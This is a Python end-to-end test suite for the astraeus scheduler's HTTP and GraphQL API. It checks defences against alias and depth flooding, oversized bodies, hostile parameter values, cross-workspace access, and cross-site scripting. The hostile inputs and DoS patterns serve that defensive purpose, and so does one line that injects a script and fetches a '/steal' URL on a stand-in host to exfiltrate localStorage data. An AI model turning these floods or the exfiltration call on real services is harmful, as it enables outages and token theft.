"""Issue 18's attacks on the HTTP API, played live: `astraeus up` with its local agent, the
default workspace and a second one (team-b) with a member token.

Before issue 18: 1 000 aliases of `gpus { line }` took 16 s, and two such requests made
another workspace's `GET /v1/jobs/…` wait 47 s; four 100 MB bodies raised the server's memory
by 600 MB; `?before=99999999999999999999999` and a goodput from year 1000 to 9999 were 500s,
GraphQL `goodput(start: "0001-…")` said "Unexpected error." and an unauthenticated call printed
a traceback; no answer carried a Content-Security-Policy.
"""

from __future__ import annotations

import contextlib
import json
import re
import select
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from backend.cli.astra.workdir import pack
from tests.e2e.browser import CHROMIUM, DIST, NEEDS_CHROMIUM, sign_in
from tests.e2e.live import Server, serving
from tests.support.http import HTTP

MIB = 1024 * 1024
B_RUN = "b-train"
A_RUN = "a-train"

# Values no parameter should take, each to be answered below 500: control characters, numbers
# past 64 bits, times outside any ledger, and a long string.
HOSTILE = [
    "\x00",
    "run\x00name",
    "\x1b[31m",
    "tab\there",
    "\x7f",
    "99999999999999999999999",
    "-99999999999999999999999",
    "9" * 5000,
    "\u00b2\u00b3",
    "1e309",
    "NaN",
    "-1",
    "0",
    "1000-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "0001-01-01T00:00:00+14:00",
    "10000-01-01T00:00:00Z",
    "99999999999999999999d",
    "x" * 2000,
]
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@dataclass
class Cluster:
    server: Server
    admin: str  # default's organisation admin
    bob: str  # a member of team-b
    code: str = ""  # the digest of a run's code default uploaded (issue 41)

    def get(self, path: str, token: str, **params: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {token}"}
        return HTTP.get(f"{self.server.url}/v1{path}", headers=headers, params=params, timeout=60)

    def graphql(
        self, token: str, query: str, variables: dict[str, Any] | None = None
    ) -> httpx.Response:
        return HTTP.post(
            f"{self.server.url}/graphql",
            headers={"Authorization": f"Bearer {token}"},
            json={"query": query, "variables": variables or {}},
            timeout=60,
        )

    def log(self) -> str:
        return self.server.log.read_text(errors="replace")


def submit(cluster: Cluster, token: str, name: str, workspace: str) -> None:
    created = cluster.graphql(
        token,
        "mutation($s: JSON!, $w: String) { createRun(spec: $s, workspace: $w) "
        "{ errors { field message } } }",
        {"s": {"name": name, "gpus": 1, "command": ["sleep", "600"]}, "w": workspace},
    ).json()
    assert created["data"]["createRun"]["errors"] == [], created


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    root = tmp_path_factory.mktemp("hostile")
    console = str(DIST) if (DIST / "index.html").is_file() else str(root / "no-console")
    with serving(root / "data", console_dir=console) as (server, _):
        admin = (root / "data" / "admin-token").read_text().strip()
        server.cli("workspace", "create", "team-b")
        bob = server.cli("token", "create", "--workspace", "team-b", "--user", "bob").split()[-1]
        found = Cluster(server, admin, bob)
        submit(found, admin, A_RUN, "default")
        submit(found, bob, B_RUN, "team-b")
        (root / "project").mkdir()
        (root / "project" / "train.py").write_text("print('default')\n")
        packed = pack(root / "project")
        found.code = f"sha256:{packed.digest}"
        stored = HTTP.put(
            f"{server.url}/v1/code/{found.code}",
            content=packed.archive,
            headers={"Authorization": f"Bearer {admin}"},
            timeout=60,
        )
        assert stored.status_code == 201, stored.text
        yield found


def tracebacks(text: str) -> list[str]:
    return [line for line in text.splitlines() if "Traceback" in line]


# --- GraphQL's bounds ---------------------------------------------------------------------


def test_a_thousand_aliases_are_refused_at_once(cluster: Cluster) -> None:
    query = "{ " + " ".join(f"a{i}: gpus {{ line }}" for i in range(1000)) + " }"
    started = time.monotonic()
    answer = cluster.graphql(cluster.admin, query)
    took = time.monotonic() - started
    assert answer.status_code == 200
    body = answer.json()
    assert body.get("data") is None
    assert "2000 tokens" in body["errors"][0]["message"], body
    assert took < 2, took
    # Under the token bound, the aliases' own bound holds (31 of them).
    query = "{ " + " ".join(f"a{i}: viewer {{ user }}" for i in range(31)) + " }"
    body = cluster.graphql(cluster.admin, query).json()
    assert body["errors"][0]["message"] == "31 aliases found. Allowed: 30", body
    # And depth: eleven levels of runs → workers → run … are refused before running.
    deep = "{ runs { " + "workers { run { " * 5 + "name" + " } }" * 5 + " } }"
    body = cluster.graphql(cluster.admin, deep).json()
    assert "exceeds maximum operation depth of 10" in body["errors"][0]["message"], body


def test_heavy_graphql_of_one_workspace_leaves_anothers_jobs_answering(cluster: Cluster) -> None:
    """Workspace default sends, at once, two requests of 1 000 aliases and six of the most a
    request may hold (30 aliases of `runs { workers … }` and `gpus`); team-b's
    `GET /v1/jobs/b-train` answers, right, within 10 s each time meanwhile."""
    heavy = "{ " + " ".join(f"a{i}: gpus {{ line }}" for i in range(1000)) + " }"
    allowed = (
        "{ "
        + " ".join(
            f"r{i}: runs {{ name workers {{ name reason }} }} g{i}: gpus {{ line }}"
            for i in range(15)
        )
        + " }"
    )
    stop = threading.Event()
    answered: list[dict[str, Any]] = []

    def flood(query: str) -> None:
        while not stop.is_set():
            answered.append(cluster.graphql(cluster.admin, query).json())

    with ThreadPoolExecutor(8) as pool:
        for query in [heavy, heavy, *[allowed] * 6]:
            pool.submit(flood, query)
        try:
            time.sleep(1)
            for _ in range(5):
                started = time.monotonic()
                job = cluster.get(f"/jobs/{B_RUN}", cluster.bob)
                assert time.monotonic() - started < 10
                assert job.status_code == 200, job.text
                assert job.json()["name"] == B_RUN
                assert job.json()["created_by"] == "bob"
                assert job.json()["ended_at"] is None, job.json()
        finally:
            stop.set()
    allowed_answers = [a for a in answered if a.get("data")]
    assert allowed_answers, answered[:3]
    # an allowed request sees only its own workspace's run
    assert {r["name"] for r in allowed_answers[0]["data"]["r0"]} == {A_RUN}


def test_an_unauthenticated_call_is_refused_in_one_line(cluster: Cluster) -> None:
    before = cluster.log()
    answer = httpx.post(
        f"{cluster.server.url}/graphql", json={"query": "{ gpus { line } }"}, timeout=10
    )
    body = answer.json()
    assert body["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    time.sleep(0.5)
    added = cluster.log()[len(before) :]
    assert tracebacks(added) == [], added
    assert "strawberry.exceptions" not in added


# --- bodies --------------------------------------------------------------------------------


def rss(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmRSS:\s+(\d+) kB", status).group(1)) * 1024  # type: ignore[union-attr]


def post_body(url: str, size: int, *, chunked: bool) -> int:
    """POST /graphql with a body of ``size`` bytes, sent while the server lets it; the status
    of the answer (read as soon as one comes, even before the body is all sent)."""
    host, port = url.removeprefix("http://").split(":")
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {size}"
    head = (
        f"POST /graphql HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"{framing}\r\n\r\n"
    )
    chunk = b"x" * MIB
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(head.encode())
        answer = b""
        for _ in range(size // MIB):
            if select.select([s], [], [], 0)[0]:
                break  # answered already
            try:
                s.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n" if chunked else chunk)
            except OSError:
                break
        if chunked and not select.select([s], [], [], 0)[0]:
            with contextlib.suppress(OSError):
                s.sendall(b"0\r\n\r\n")
        with_deadline = time.monotonic() + 30
        while b"\r\n" not in answer and time.monotonic() < with_deadline:
            part = s.recv(4096)
            if not part:
                break
            answer += part
    return int(answer.split(b" ", 2)[1])


def test_a_body_over_the_limit_is_refused_before_it_is_read(cluster: Cluster) -> None:
    assert cluster.server.process is not None
    pid = cluster.server.process.pid
    before = rss(pid)
    with ThreadPoolExecutor(4) as pool:
        sized = list(
            pool.map(lambda _: post_body(cluster.server.url, 100 * MIB, chunked=False), range(4))
        )
    assert sized == [413] * 4
    streamed = [post_body(cluster.server.url, 100 * MIB, chunked=True) for _ in range(2)]
    assert streamed == [413] * 2
    grown = rss(pid) - before
    assert grown < 50 * MIB, f"the server grew by {grown / MIB:.0f} MiB"
    # The refusal says the bound; a body under it is read as ever.
    refused = httpx.post(f"{cluster.server.url}/graphql", content=b"x" * (MIB + 1), timeout=10)
    assert refused.status_code == 413
    assert refused.json() == {
        "code": "PAYLOAD_TOO_LARGE",
        "message": "A request body is at most 1 MiB.",
    }
    # (padded outside the document: a document is at most 50 000 characters, issue 37 N1)
    padded = json.dumps({"query": "{ viewer { user } }"}) + " " * (MIB - 100)
    fits = httpx.post(
        f"{cluster.server.url}/graphql",
        content=padded,
        headers={"Authorization": f"Bearer {cluster.admin}", "Content-Type": "application/json"},
        timeout=10,
    )
    assert fits.status_code == 200, fits.text
    assert fits.json()["data"]["viewer"]["user"] == "admin"


def test_a_websocket_message_over_the_limit_closes_the_socket(cluster: Cluster) -> None:
    # issue 18: a subscription's socket takes messages of at most the body limit (it took
    # 16 MiB, uvicorn's default, before); one under it is read as ever
    from websockets.exceptions import ConnectionClosed
    from websockets.sync.client import connect

    from backend.cli.astra.graphql_ws import PROTOCOL, initialise_sync, websocket_url

    with connect(websocket_url(cluster.server.url), subprotocols=[PROTOCOL], max_size=None) as ws:
        initialise_sync(ws, cluster.admin)
        ws.send(json.dumps({"type": "ping", "payload": {"pad": "x" * (MIB // 2)}}))
        assert json.loads(ws.recv(timeout=10))["type"] == "pong"
        ws.send(json.dumps({"type": "ping", "payload": {"pad": "x" * (2 * MIB)}}))
        with pytest.raises(ConnectionClosed) as closed:
            ws.recv(timeout=10)
    assert closed.value.rcvd is not None and closed.value.rcvd.code == 1009  # message too big


# --- every parameter -----------------------------------------------------------------------


def rest_operations(cluster: Cluster) -> list[tuple[str, list[dict[str, Any]]]]:
    document = cluster.get("/openapi.json", cluster.admin).json()
    return [
        (path, op.get("parameters", []))
        for path, ops in document["paths"].items()
        for method, op in ops.items()
        if method == "get"
    ]


def test_the_openapi_document_names_every_rest_route(cluster: Cluster) -> None:
    from backend.app import create_app
    from backend.config import Settings

    app = create_app(Settings(console_dir=Path("/nonexistent")))
    mounted = {
        route.path
        for mount in app.routes
        if getattr(mount, "path", None) == "/v1"
        for route in mount.routes  # type: ignore[attr-defined]
        if route.path != "/openapi.json"
    }
    assert mounted == {path for path, _ in rest_operations(cluster)}


VALID = {
    "run": A_RUN,
    "job": A_RUN,
    "worker": f"{A_RUN}-0",
    "org": "default",
    "workspace": "default",
    "cluster": "local",
    "metric": "task_cpu_usage_cores",
}


def test_every_rest_parameter_refuses_hostile_values_without_a_5xx(cluster: Cluster) -> None:
    before = cluster.log()
    failures = []
    for path, parameters in rest_operations(cluster):
        in_path = {p["name"] for p in parameters if p["in"] == "path"}
        for parameter in parameters:
            name = parameter["name"]
            for value in HOSTILE:
                filled = {n: VALID.get(n, "x") for n in in_path}
                query: dict[str, str] = {}
                if name in in_path:
                    filled[name] = value
                else:
                    query[name] = value
                url = path.format(**{n: quote(v, safe="") for n, v in filled.items()})
                answer = cluster.get(url, cluster.admin, **query)
                if answer.status_code >= 500:
                    failures.append(f"{url} {name}={value[:30]!r}: {answer.status_code}")
                    continue
                body = answer.json()
                if CONTROL.search(value) and (
                    answer.status_code != 400
                    or name not in [e["field"] for e in body.get("errors", [])]
                ):
                    failures.append(f"{url} {name}={value!r} not refused by name: {body}")
    assert failures == [], "\n".join(failures)
    added = cluster.log()[len(before) :]
    assert tracebacks(added) == []
    assert " 500 " not in added


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/orgs/default/workspaces/default/events", {"before": "9" * 23}, "before"),
        ("/goodput", {"start": "1000-01-01T00:00:00Z", "end": "9999-12-31T23:59:59Z"}, "start"),
        ("/metrics/range", {"metric": "task_cpu_usage_cores", "step": "9" * 20 + "d"}, "step"),
        ("/jobs/a%00b", {}, "run"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(
    cluster: Cluster, path: str, params: dict[str, str], field: str
) -> None:
    answer = cluster.get(path, cluster.admin, **params)
    assert answer.status_code == 400, answer.text
    assert answer.json()["code"] == "INVALID_PARAMETER"
    assert field in [e["field"] for e in answer.json()["errors"]]


INTROSPECT = """{ __schema {
  queryType { fields { ...F } } mutationType { fields { ...F } }
  types { name kind enumValues { name } } } }
fragment F on __Field { name args { name type { ...T } } type { ...T } }
fragment T on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }
"""


def type_text(t: dict[str, Any]) -> str:
    if t["kind"] == "NON_NULL":
        return type_text(t["ofType"]) + "!"
    if t["kind"] == "LIST":
        return f"[{type_text(t['ofType'])}]"
    return str(t["name"])


def named(t: dict[str, Any]) -> dict[str, Any]:
    return named(t["ofType"]) if t.get("ofType") else t


# hostile values by an argument's named type (sent as variables)
GRAPHQL_HOSTILE: dict[str, list[Any]] = {
    "String": ["\x00", "a\x00b", "\x1b[31m", "x" * 2000, "9" * 30],
    "Int": [2147483647, -2147483648, 0],
    "Float": [1e308, -1e308],
    "DateTime": [
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "1000-01-01T00:00:00+14:00",
        "10000-01-01T00:00:00Z",
    ],
    "JSON": [{"name": "a\x00"}, {"a" * 200: 1}, [1e308]],
    "ID": ["\x00", "9" * 30],
    "Boolean": [True],
}
# what a required argument not under test gets: nothing that names a thing that exists
GRAPHQL_PLAIN: dict[str, Any] = {
    "String": "no-such-thing",
    "ID": "0",
    "Int": 0,
    "Float": 0.0,
    "Boolean": False,
    "DateTime": "2026-01-01T00:00:00Z",
    "JSON": {},
}


def graphql_calls(cluster: Cluster) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """(what, query, variables): each root field, each argument with each hostile value."""
    found = cluster.graphql(cluster.admin, INTROSPECT).json()["data"]["__schema"]
    enums = {t["name"]: t["enumValues"][0]["name"] for t in found["types"] if t["enumValues"]}
    for root, kind in ((found["queryType"], "query"), (found["mutationType"], "mutation")):
        for field in root["fields"]:
            result = named(field["type"])
            selection = " { __typename }" if result["kind"] in ("OBJECT", "INTERFACE") else ""
            args = field["args"]
            declared = ", ".join(f"${a['name']}: {type_text(a['type'])}" for a in args)
            passed = ", ".join(f"{a['name']}: ${a['name']}" for a in args)
            query = (
                f"{kind}{f'({declared})' if args else ''} "
                f"{{ {field['name']}{f'({passed})' if args else ''}{selection} }}"
            )
            plain = {}
            for a in args:
                if a["type"]["kind"] == "NON_NULL":
                    base = named(a["type"])["name"]
                    plain[a["name"]] = enums.get(base, GRAPHQL_PLAIN.get(base))
            if not args:
                yield field["name"], query, {}
            for a in args:
                for value in GRAPHQL_HOSTILE.get(named(a["type"])["name"], []):
                    listed = a["type"]["kind"] == "LIST" or (
                        a["type"]["kind"] == "NON_NULL" and a["type"]["ofType"]["kind"] == "LIST"
                    )
                    what = f"{field['name']}({a['name']}={str(value)[:30]!r})"
                    yield what, query, {**plain, a["name"]: [value] if listed else value}


def test_every_graphql_root_field_refuses_hostile_values_without_a_masked_error(
    cluster: Cluster,
) -> None:
    before = cluster.log()
    failures = []
    calls = list(graphql_calls(cluster))
    assert len({what.split("(")[0] for what, _, _ in calls}) >= 25
    for what, query, variables in calls:
        for token in (cluster.admin, cluster.bob):
            answer = cluster.graphql(token, query, variables)
            if answer.status_code >= 500:
                failures.append(f"{what}: {answer.status_code}")
                continue
            for error in answer.json().get("errors") or []:
                if error["message"].startswith("Unexpected error"):
                    failures.append(f"{what}: masked: {error}")
            if any(CONTROL.search(v) for v in variables.values() if isinstance(v, str)):
                codes = [e.get("extensions", {}).get("code") for e in answer.json()["errors"]]
                if "INVALID_PARAMETER" not in codes:
                    failures.append(f"{what}: not refused: {answer.json()}")
    assert failures == [], "\n".join(failures)
    added = cluster.log()[len(before) :]
    assert tracebacks(added) == [], added[-3000:]


def test_goodput_from_year_one_is_refused_by_name(cluster: Cluster) -> None:
    body = cluster.graphql(cluster.admin, '{ goodput(start: "0001-01-01T00:00:00Z") { by } }')
    error = body.json()["errors"][0]
    assert error["extensions"]["code"] == "INVALID_PARAMETER"
    assert error["message"] == "start: must be a time from 1970 to 2999"


# --- another workspace's ids ---------------------------------------------------------------


def test_team_b_reaches_nothing_of_default_by_its_ids(cluster: Cluster) -> None:
    """Each REST route that takes a name or a workspace, asked by team-b's member with default's:
    refused or not found, and nothing of default's run in the answer."""
    asks = [
        (f"/jobs/{A_RUN}", {}),
        (f"/jobs/{A_RUN}", {"workspace": "default"}),
        ("/tasks", {"job": A_RUN}),
        ("/tasks", {"job": A_RUN, "workspace": "default"}),
        (f"/tasks/{A_RUN}-0", {}),
        (f"/tasks/{A_RUN}-0", {"workspace": "default"}),
        (f"/tasks/{A_RUN}-0/logs", {}),
        (f"/runs/{A_RUN}/goodput", {}),
        (f"/runs/{A_RUN}/goodput", {"workspace": "default"}),
        ("/orgs/default/workspaces/default/events", {}),
        ("/goodput", {"workspace": "default"}),
        ("/goodput/weekly", {"workspace": "default"}),
        ("/goodput/cost", {"workspace": "default"}),
        ("/goodput/intervals", {"by": "run", "name": A_RUN, "workspace": "default"}),
        ("/goodput/series", {"by": "run", "name": A_RUN}),
        ("/goodput/series", {"by": "workspace", "name": "default"}),
        ("/goodput/series", {"workspace": "default"}),
        ("/metrics/range", {"metric": "task_cpu_usage_cores", "workspace": "default"}),
        ("/organizations/default/clusters/local/goodput", {}),
        (f"/code/{cluster.code}", {}),
        (f"/code/{cluster.code}", {"workspace": "default"}),
    ]
    covered = {re.sub(r"\{[^}]+\}", "*", p) for p, _ in rest_operations(cluster)}
    asked = {re.sub(rf"{A_RUN}(-0)?|default|local|sha256:[0-9a-f]{{64}}", "*", p) for p, _ in asks}
    assert covered - asked <= {"/goodput/metrics"}  # no ids: the caller's own workspace
    for path, params in asks:
        answer = cluster.get(path, cluster.bob, **params)
        assert answer.status_code in (403, 404), (path, params, answer.text)
        assert "history" not in answer.json() and "tasks" not in answer.json()
    for query in (
        f'{{ run(name: "{A_RUN}", workspace: "default") {{ name }} }}',
        '{ runs(workspace: "default") { name } }',
        '{ events(organization: "default", workspace: "default") { events { run } } }',
    ):
        body = cluster.graphql(cluster.bob, query).json()
        assert A_RUN not in json.dumps(body.get("data")), body


# --- the console's headers -----------------------------------------------------------------


def test_every_answer_carries_the_consoles_security_headers(cluster: Cluster) -> None:
    url = cluster.server.url
    answers = [
        httpx.get(f"{url}/"),
        httpx.get(f"{url}/orgs/default/workspaces/default/runs"),
        httpx.get(f"{url}/healthz"),
        httpx.get(f"{url}/v1/jobs/{A_RUN}", headers={"Authorization": f"Bearer {cluster.admin}"}),
        httpx.get(f"{url}/v1/no-such-route"),
        httpx.post(f"{url}/graphql", json={"query": "{ __typename }"}),
        httpx.post(f"{url}/graphql", content=b"x" * (2 * MIB)),
    ]
    for answer in answers:
        headers = answer.headers
        policy = headers.get("content-security-policy", "")
        assert "script-src 'self';" in policy, (answer.url, policy)
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert "frame-ancestors 'none'" in policy
        assert f"connect-src 'self' ws://{url[7:]} wss://{url[7:]};" in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert headers["referrer-policy"] == "no-referrer"
    # No GraphiQL: its inline scripts from a CDN are what the policy refuses.
    ide = httpx.get(f"{url}/graphql", headers={"Accept": "text/html"})
    assert ide.status_code == 404


@pytest.mark.skipif(not (DIST / "index.html").is_file(), reason="the console is not built")
def test_the_built_console_runs_no_inline_script() -> None:
    page = (DIST / "index.html").read_text()
    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", page, re.S)
    assert scripts, page
    assert all('src="/' in attrs and not body.strip() for attrs, body in scripts)
    assert not re.search(r"\son[a-z]+=", page)  # no inline handlers


@NEEDS_CHROMIUM
@pytest.mark.skipif(not (DIST / "index.html").is_file(), reason="the console is not built")
def test_the_console_runs_whole_under_its_policy_and_an_injected_script_does_not(
    cluster: Cluster,
) -> None:
    """Each page of the console in Chromium: no violation of the policy reported. A script
    injected into the page (as an XSS would) is not run, and a fetch to another origin (where
    it would send the token it read from localStorage) is refused."""
    from playwright.sync_api import sync_playwright

    url = cluster.server.url
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM)
        page = browser.new_page()
        said: list[str] = []
        page.on("console", lambda m: said.append(m.text))
        page.on("pageerror", lambda e: said.append(str(e)))
        sign_in(page, cluster.server, cluster.admin)
        base = "/o/default/w/default"
        for path in ("/runs", "/gpus", "/events", "/machines", f"/runs/{A_RUN}?tab=logs"):
            page.goto(f"{url}{base}{path}")
            page.wait_for_load_state("networkidle")
        page.goto(f"{url}{base}/runs/{A_RUN}?tab=metrics")
        page.get_by_role("heading", name=re.compile(A_RUN)).wait_for()
        page.locator("canvas").first.wait_for()  # uPlot draws under the policy
        assert [m for m in said if "Content Security Policy" in m] == []
        ran = page.evaluate(
            """() => { const s = document.createElement("script");
            s.textContent = "window.injected = true"; document.body.appendChild(s);
            return window.injected === true; }"""
        )
        assert ran is False
        sent = page.evaluate(
            """() => fetch("http://127.0.0.2:9/steal?t=" + localStorage.length)
            .then(() => "sent", (e) => "refused: " + e)"""
        )
        assert sent.startswith("refused")
        assert any("Content Security Policy" in m and "connect-src" in m for m in said), said
        browser.close()
